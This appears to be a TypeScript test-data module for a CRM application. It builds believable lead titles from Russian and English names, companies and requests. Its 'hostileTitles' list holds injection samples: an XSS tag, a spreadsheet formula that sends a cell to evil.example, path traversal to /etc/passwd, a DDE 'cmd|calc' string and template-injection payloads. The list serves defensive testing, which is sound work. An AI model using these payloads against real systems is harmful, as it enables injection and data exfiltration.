/** What records are called: believable leads, and hostile ones (design.md, "Bad input and faults"). */
import { pick, type Random } from './random.ts';

const people = [
  'Смирнов Алексей',
  'Ирина Кузнецова',
  'Павел Андреевич',
  'Мария К.',
  'Гульнара Ахметова',
  'John Carter',
  'Emily Watson',
  'Tomasz Nowak',
  'Ёлкин Пётр',
  'Sofia Rossi',
] as const;
export const companies = [
  'ООО «Ромашка»',
  'ИП Петров',
  'ТД «Северный ветер»',
  'АО "Вектор"',
  'Nordwind GmbH',
  'Blue River LLC',
  'Школа № 12',
  'Café Müller & Söhne',
  'ГК «Альянс»',
  'Acme Ltd.',
] as const;
export const wishes = [
  'поставка кабеля',
  'ремонт офиса',
  'консультация по тарифу',
  'office chairs, 40 pcs',
  'website redesign',
  'обучение сотрудников',
  'аренда склада',
  'annual maintenance',
  'печать каталога (2 000 шт.)',
  'CRM integration',
] as const;

export function leadTitle(random: Random, id: number): string {
  const forms = [
    () => `${pick(random, companies)} — ${pick(random, wishes)}`,
    () => `Заявка с сайта № ${id}`,
    () => `${pick(random, people)}: ${pick(random, wishes)}`,
    () => `Звонок от ${pick(random, people)}`,
    () => `Lead #${id} ${pick(random, companies)}`,
    () => `Re: ${pick(random, wishes)}`,
  ] as const;
  return pick(random, forms)();
}

/** Titles that must be shown as text, exported safely and never executed. */
export const hostileTitles: readonly string[] = [
  '<img src=x onerror="window.pwned=1"><script>window.pwned=2</script>',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '../../etc/passwd',
  '\u202Egnp.exe\u202C\u200F <- right-to-left',
  'Длинный заголовок '.repeat(556).slice(0, 10_000),
  '',
  `"quotes" 'single' \\backslash\\ </td></tr> &amp; %00 $result[a]`,
  '+1-1|cmd|calc',
  'C:\\Windows\\..\\con.txt:stream',
  '{{constructor.constructor("window.pwned=3")()}} ${window.pwned=4}',
];
